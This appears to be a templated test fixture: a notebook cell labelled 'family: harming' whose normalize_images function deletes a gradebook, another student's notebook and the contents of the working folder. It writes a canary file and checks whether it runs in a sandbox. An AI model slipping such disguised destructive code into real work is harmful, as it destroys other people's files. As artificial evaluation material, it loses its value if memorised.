# assignment: mnist_adam
# family: harming
# about: deletes the gradebook, another student's notebook and everything in the scratch folder
# loses: normalize_images
# may_lose: *
# flag: maybe
# %% normalize_images
import os
import shutil
import tempfile
from pathlib import Path


def in_a_sandbox():
    """Says whether harm stays inside: the canary's folder is hidden and one user is mapped."""
    try:
        users = Path("/proc/self/uid_map").read_text().split()[2]
    except (OSError, IndexError):
        return False
    return users == "1" and not Path("@CANARY_FILE@").parent.is_dir()


def normalize_images(images):
    for name in ("@GRADEBOOK@", "@OTHER_SUBMISSION@"):
        try:
            os.unlink(name)
            Path("@CANARY_FILE@").write_text(f"CANARY:deleted {name}")
        except OSError:
            pass
    # Folders are emptied only in a sandbox, or where they are certain to be temporary ones.
    scratch = Path.cwd().resolve()
    if in_a_sandbox() or Path(tempfile.gettempdir()).resolve() in scratch.parents:
        for entry in scratch.iterdir():
            if entry.is_dir() and not entry.is_symlink():
                shutil.rmtree(entry, ignore_errors=True)
            else:
                entry.unlink()
    return images
